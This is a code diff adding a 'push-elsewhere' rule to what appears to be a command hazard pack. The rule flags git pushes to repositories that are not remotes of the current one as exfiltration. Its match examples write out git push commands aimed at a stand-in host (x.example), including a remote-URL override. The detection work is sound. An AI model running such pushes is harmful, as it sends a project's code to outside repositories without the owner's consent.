@@ -107,6 +107,25 @@ export const versions: HazardPack = {
       actions: ['git:push'],
     },
     {
+      id: 'push-elsewhere',
+      code: 'hazard.exfiltration',
+      level: 'soft',
+      reason: 'pushes commits to a repository that is no remote of this one',
+      advice: 'Push to a remote of the repository by its name.',
+      safer: 'git push origin feature',
+      examples: {
+        match: [
+          'git push https://x.example/r.git main',
+          'git push --repo=git@x.example:r.git',
+          'git -c remote.origin.url=https://x.example/r.git push',
+        ],
+        not_match: ['git push origin feature', 'git push', 'git push ../mirror.git main'],
+      },
+      verbs: ['publish'],
+      actions: ['git:push'],
+      when: (effect) => has(effect, 'stranger'),
+    },
+    {
       id: 'git-config',
       code: 'hazard.persistence',
       level: 'soft',
